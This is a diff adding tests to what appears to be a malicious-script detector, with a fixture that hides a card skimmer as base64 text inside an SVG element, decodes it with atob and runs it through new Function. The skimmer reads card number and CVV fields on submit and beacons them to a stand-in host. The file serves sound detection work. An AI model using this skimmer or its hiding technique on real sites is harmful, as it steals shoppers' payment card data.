@@ -210,3 +210,34 @@ describe('data blocks an inline script reads', () => {
     expect(splitHtml(page(code, '{not json')).parts[0]?.source).toBe(code)
   })
 })
+
+describe("base64 text of the page's elements", () => {
+  const stage = `document.addEventListener('submit', function () {
+    navigator.sendBeacon('https://seal-check.example/v', btoa(document.querySelector('#cc_number').value + '|' + document.querySelector('#cvv').value))
+  })`
+  const wrapped = (
+    Buffer.from(stage)
+      .toString('base64')
+      .match(/.{1,64}/g) ?? []
+  ).join('\n        ')
+  const page = (script: string): string => `<div class="seal"><svg><desc id="d">
+        ${wrapped}
+      </desc></svg></div>
+    <script>${script}</script>`
+
+  it("is judged with a script that reads elements' text", () => {
+    const v = analyzeScript(
+      page(
+        `var t = document.getElementById('d').textContent.replace(/\\s+/g, ''); new Function(atob(t))()`,
+      ),
+      { html: true },
+    )
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
+  })
+
+  it('is not read into a script that reads no text', () => {
+    const v = analyzeScript(page(`document.documentElement.classList.add('js')`), { html: true })
+    expect(v.findings.map((f) => f.rule)).not.toContain('card-field-read-and-send')
+  })
+})
